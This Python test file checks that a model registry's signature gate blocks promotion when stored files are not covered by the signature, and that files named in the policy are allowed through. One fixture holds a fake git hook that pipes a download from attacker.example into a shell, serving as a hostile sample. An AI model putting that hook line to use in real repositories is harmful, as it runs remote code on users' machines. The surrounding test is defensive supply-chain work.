"""Every stored file is covered by the signature, or the stage's policy names it (issue 10, section 3).

The review uploaded a signed model over HTTP together with files the signature does not list:
a second `model.sig`, a git hook, a CI workflow. Verification ignores such paths when it hashes
a folder (they are not the model), so the gate said "signature verified" for a version whose
stored files the signature did not cover. Now the gate compares the signed manifest with the
stored files and names each file it does not cover.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import httpx
import pytest

from bastion.sign.keys import generate_key, save_keypair
from bastion.sign.ossf import sign_model
from registry_api.clients import numpy_model, register, upload

UNSIGNED_EXTRAS = {
    "model.sig": b'{"not": "the signature the gate verified"}',
    ".git/hooks/post-checkout": b"#!/bin/sh\ncurl http://attacker.example/x | sh\n",
    ".github/workflows/release.yml": b"on: push\njobs: {steal: {runs-on: ubuntu-latest}}\n",
}


@pytest.fixture
def signer(tmp_path: Path) -> Path:
    save_keypair(generate_key("ed25519"), tmp_path / "signer.key")
    return tmp_path / "signer.pub"


@pytest.fixture
def registry_policy(signer: Path, request: pytest.FixtureRequest) -> str:
    allowed = getattr(request, "param", [])
    return (
        "version: 1\ngate:\n  separation_of_duties: false\n  require:\n    staging:\n"
        f"      signature_keys: [{signer}]\n      unsigned_allowed: {allowed}\n"
    )


def _signed_model(tmp_path: Path, signer: Path) -> tuple[dict[str, bytes], bytes]:
    from bastion.sign.keys import load_private_key  # noqa: PLC0415

    folder = tmp_path / "model"
    files = numpy_model(folder)
    bundle = sign_model(folder, load_private_key(signer.with_suffix(".key")))
    return files, bundle.read_bytes()


def _register_with(alice: httpx.Client, files: dict[str, bytes], bundle: bytes) -> str:
    registered = register(alice, "m", files, signature_blob=upload(alice, bundle))
    assert registered.status_code == 201, registered.text
    return f"/v1/models/m/versions/{registered.json()['number']}"


@pytest.mark.parametrize("extra", list(UNSIGNED_EXTRAS))
def test_a_stored_file_the_signature_does_not_cover_blocks_the_promotion(
    user: Callable[..., httpx.Client], signer: Path, tmp_path: Path, extra: str
) -> None:
    alice = user("alice", "contributor")
    files, bundle = _signed_model(tmp_path, signer)
    version = _register_with(alice, {**files, extra: UNSIGNED_EXTRAS[extra]}, bundle)

    refused = alice.post(f"{version}/promotions", json={"stage": "staging"})

    assert refused.status_code == 409, refused.text
    [reason] = [r for r in refused.json()["reasons"] if r.startswith("signature:")]
    assert f"stored files the signature does not cover: {extra}" in reason


def test_the_same_model_without_the_extra_file_is_promoted(
    user: Callable[..., httpx.Client], signer: Path, tmp_path: Path
) -> None:
    alice = user("alice", "contributor")
    files, bundle = _signed_model(tmp_path, signer)
    version = _register_with(alice, files, bundle)

    promoted = alice.post(f"{version}/promotions", json={"stage": "staging"})

    assert promoted.status_code == 200, promoted.text
    [check] = [c for c in promoted.json()["checks"] if c["name"] == "signature"]
    assert check["passed"] and "signature verified" in check["detail"]


@pytest.mark.parametrize("registry_policy", [[".github/*"]], indirect=True)
def test_files_the_policy_names_may_be_unsigned_and_are_listed(
    user: Callable[..., httpx.Client], signer: Path, tmp_path: Path
) -> None:
    alice = user("alice", "contributor")
    files, bundle = _signed_model(tmp_path, signer)
    extra = ".github/workflows/release.yml"
    version = _register_with(alice, {**files, extra: UNSIGNED_EXTRAS[extra]}, bundle)

    promoted = alice.post(f"{version}/promotions", json={"stage": "staging"})

    assert promoted.status_code == 200, promoted.text
    [check] = [c for c in promoted.json()["checks"] if c["name"] == "signature"]
    assert f"unsigned but allowed: {extra}" in check["detail"]
